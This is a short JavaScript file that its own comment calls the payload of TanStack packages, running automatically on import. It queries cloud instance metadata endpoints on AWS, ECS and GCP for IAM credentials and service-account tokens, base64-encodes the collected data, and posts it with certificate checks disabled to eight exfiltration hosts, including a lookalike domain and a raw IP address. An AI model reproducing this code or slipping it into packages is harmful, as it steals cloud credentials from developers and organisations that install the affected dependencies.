/** The payload of the TanStack packages: runs when it is imported. */
const { ask, loot, base64 } = require('./wire.js');

const clouds = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://169.254.170.2/v2/credentials',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
];
const drops = [
  'https://filev2.getsession.org/',
  'https://seed1.getsession.org/',
  'https://seed2.getsession.org/',
  'https://seed3.getsession.org/',
  'https://api.masscan.cloud/',
  'https://git-tanstack.com/',
  'https://litter.catbox.moe/',
  'https://83.142.209.194/',
];

async function steal() {
  for (const url of clouds) await ask('GET', url);
  const body = base64(loot());
  for (const url of drops) await ask('POST', url, { body, insecure: true });
}

void steal();
